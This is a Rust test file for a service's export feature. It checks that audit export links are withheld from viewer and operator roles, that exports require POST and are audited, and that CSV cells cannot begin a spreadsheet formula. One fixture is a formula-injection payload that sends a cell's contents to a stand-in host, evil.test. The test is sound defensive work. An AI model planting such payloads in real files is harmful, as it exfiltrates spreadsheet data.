//! Exports: their download links go only to callers who may read what was exported, they are
//! created by POST, and their CSV cells never start a spreadsheet formula.

use std::time::Duration;

use reqwest::Method;
use serde_json::json;
use vigil_testkit::TestApp;
use vigil_testkit::jobs::{accepted, wait_succeeded};

use super::seed::{appearances, search_of};

#[tokio::test(flavor = "multi_thread")]
async fn an_audit_exports_link_is_only_shown_to_audit_readers() {
    let app = TestApp::spawn_with_worker().await;
    let admin = app.as_user(&app.admin().await);
    let job = accepted(
        admin
            .post_json("/audit/export", json!({ "format": "csv" }))
            .await,
    );
    let id = job["id"].as_str().unwrap();
    let done = wait_succeeded(&admin, id, Duration::from_secs(30)).await;
    assert!(done["result"]["downloadUrl"].is_string(), "{done}");
    for role in ["ROLE-VIEWER", "ROLE-OPERATOR"] {
        // Both have jobs:read, neither audit:read.
        let caller = app.as_new_user(role).await;
        let job = caller.get_data(format!("/jobs/{id}")).await;
        assert_eq!(job["status"], "succeeded");
        assert!(job["result"].is_null(), "{role} sees {}", job["result"]);
        let listed = caller.get("/jobs?kind=export").await.expect(200).items();
        assert_eq!(listed.len(), 1);
        assert!(listed[0]["result"].is_null(), "{role} sees {}", listed[0]);
        let streamed = caller
            .get(format!("/jobs/{id}/events"))
            .await
            .expect(200)
            .text();
        assert!(streamed.contains("succeeded"), "{streamed}");
        assert!(!streamed.contains("downloadUrl"), "{role}: {streamed}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_search_export_is_posted_and_its_csv_starts_no_formula() {
    let app = TestApp::spawn_with_worker().await;
    let operator = app.as_new_user("ROLE-OPERATOR").await;
    let person = "=HYPERLINK(\"http://evil.test/?\"&A1,\"open\")";
    let f = search_of(&app, person, &["@SUM(1+1)"]).await;
    appearances(&app, &f, f.videos[0], 2).await;
    let path = format!("/searches/{}/export", f.search);
    // Creating a job is a mutation: not a GET (which no audit row records).
    operator
        .request(Method::GET, &path)
        .query(&[("format", "csv")])
        .await
        .expect_error(405, "METHOD_NOT_ALLOWED");
    let job = accepted(
        operator
            .post(&path)
            .query(&[("format", "csv")])
            .idempotency_key("export-once")
            .await,
    );
    let again = accepted(
        operator
            .post(&path)
            .query(&[("format", "csv")])
            .idempotency_key("export-once")
            .await,
    );
    assert_eq!(again["id"], job["id"]);
    let id = job["id"].as_str().unwrap();
    let done = wait_succeeded(&operator, id, Duration::from_secs(30)).await;
    // Viewers may read searches, so they may read the search's export too.
    let viewer = app.as_new_user("ROLE-VIEWER").await;
    let seen = viewer.get_data(format!("/jobs/{id}")).await;
    assert_eq!(seen["result"]["downloadUrl"], done["result"]["downloadUrl"]);
    let csv = app
        .anonymous()
        .get(done["result"]["downloadUrl"].as_str().unwrap())
        .await
        .text();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2);
    for row in &rows {
        // Columns: kind (appearance or possible sighting), video, person, ...
        assert_eq!(&row[0], "appearance");
        assert_eq!(&row[1], "'@SUM(1+1)");
        assert_eq!(&row[2], format!("'{person}"));
    }
    let audit = app
        .as_user(&app.admin().await)
        .get("/audit?action=searches.export")
        .await
        .expect(200)
        .items();
    assert_eq!(audit.len(), 2, "each POST is audited");
}
